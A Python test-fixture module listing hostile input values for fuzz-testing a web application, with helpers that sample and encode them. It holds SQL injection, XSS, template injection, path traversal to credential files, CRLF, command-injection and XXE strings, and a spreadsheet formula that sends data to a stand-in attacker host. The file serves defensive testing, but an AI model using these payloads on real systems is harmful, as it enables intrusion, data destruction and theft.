"""
A corpus of hostile input values for the black-box tests in test_hostile_input.py.

Strings are sent UTF-8 encoded (lone surrogates as their CESU bytes, which are not valid UTF-8); bytes
values are sent as they are (invalid UTF-8, overlong encodings).
"""

import random
from urllib.parse import quote_from_bytes

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE news_registration; --",
    "1; DELETE FROM auth_user",
    "1 UNION SELECT username, password FROM auth_user --",
    "%' AND 1=0 UNION ALL SELECT NULL, NULL --",
    "admin'--",
    "1)) OR pg_sleep(5) --",
    "1'; WAITFOR DELAY '0:0:5' --",
    "' AND extractvalue(1, concat(0x7e, version())) --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "\\'; SELECT 1; --",
    "' || (SELECT sqlite_version()) || '",
]
XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "'-alert(1)-'",
    '";alert(1);//',
    "<body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<!--<script>-->alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
]
TEMPLATE = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(name)s %s %d %n",
    "{0.__class__}",
    "{}",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd%00.pdf",
    "file:///etc/passwd",
    "/dev/zero",
    "~/.ssh/id_rsa",
    "\\\\evil.example\\share",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
]
NUL_AND_CONTROL = [
    "a\x00b",
    "\x00",
    "%00",
    "\x00' OR 1=1 --",
    "\x07\x08\x1b[31mred\x1b[0m",
    "\x7f",
    "tab\there",
]
SURROGATES_AND_BAD_BYTES = [
    "\ud800",
    "\udfff",
    "a\ud83dz",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",
    b"\x80\x81\x82",
    b"abc\xff",
]
HUGE = [
    "A" * 10_000,
    "中" * 5_000,
    "9" * 500,
    "-1",
    "0",
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "1e309",
    "NaN",
    "Infinity",
    "0x7fffffff",
    "1.5",
    " 1",
    "１２３",  # full-width digits
    "٣",  # Arabic-Indic digit
]
HOMOGLYPHS_AND_UNICODE = [
    "аdmin",  # Cyrillic а
    "ｐａｙｐａｌ",
    "Ꭺlice",
    "ﬁnance",
    "İstanbul",
    "straße",
    "ǅ",
    "\u202eexe.fdp",
    "Ali\u200bce",
    "\ufeffBOM",
    "👨\u200d👩\u200d👧 family",
    "e\u0301\u0301\u0301\u0301\u0301",
    "Z̵̡̢̛̗̘̙̜̝̞̟̠̊̋̌̍̎̏̐̑̒̓̔̽̾̿",
    "𝕬𝖑𝖎𝖈𝖊",
    "\u3000",
    "\u00a0",
]
CRLF = [
    "a\r\nSet-Cookie: pwned=1",
    "%0d%0aLocation: https://evil.example",
    "x\r\nBcc: victim@example.org",
    "a\rb",
    "a\nb",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "\r\n\r\n<html>",
]
CSV_FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example", "click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
]
MISC = [
    "",
    " ",
    "   \t  ",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    '{"$gt": ""}',
    "%",
    "%%",
    "%25",
    "+",
    "&",
    "=",
    "?",
    "#",
    ";",
    "\\",
    "'",
    '"',
    "`",
    "*)(uid=*))(|(uid=*",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "|id",
    "$(id)",
    "`id`",
    "; ls -la",
    "upcoming",
    "past",
    "recruitment",
    "frontier-news",
    "it-services",
]

BASE = SQL + XSS + TEMPLATE + TRAVERSAL + NUL_AND_CONTROL + SURROGATES_AND_BAD_BYTES + HUGE + HOMOGLYPHS_AND_UNICODE
BASE += CRLF + CSV_FORMULAS + MISC


def _variants(value):
    """The value itself, embedded in ordinary Chinese text, doubled, and upper-cased."""
    if isinstance(value, bytes):
        return [value, "测试".encode() + value, value * 2]
    return [value, f"测试{value}公司", value * 2, value.upper()]


def _unique(values):
    seen, out = set(), []
    for value in values:
        key = (type(value), value)
        if key not in seen:
            seen.add(key)
            out.append(value)
    return out


CORPUS = _unique(variant for value in BASE for variant in _variants(value))


def sample(size: int, seed: int = 7) -> list:
    """A reproducible sample that always includes the nastiest classes."""
    chosen = random.Random(seed).sample(CORPUS, min(size, len(CORPUS)))
    return _unique([*SURROGATES_AND_BAD_BYTES[:4], "a\x00b", "A" * 10_000, "' OR '1'='1", "{{ 7*7 }}", *chosen])


def to_bytes(value) -> bytes:
    return value if isinstance(value, bytes) else str(value).encode("utf-8", "surrogatepass")


def query(**params) -> str:
    """A raw query string: every value percent-encoded from its bytes (invalid UTF-8 included)."""
    return "&".join(f"{name}={quote_from_bytes(to_bytes(value), safe='')}" for name, value in params.items())


def is_text(value) -> bool:
    """Values the test client can put in a multipart form (valid Unicode without lone surrogates)."""
    if isinstance(value, bytes):
        return False
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True
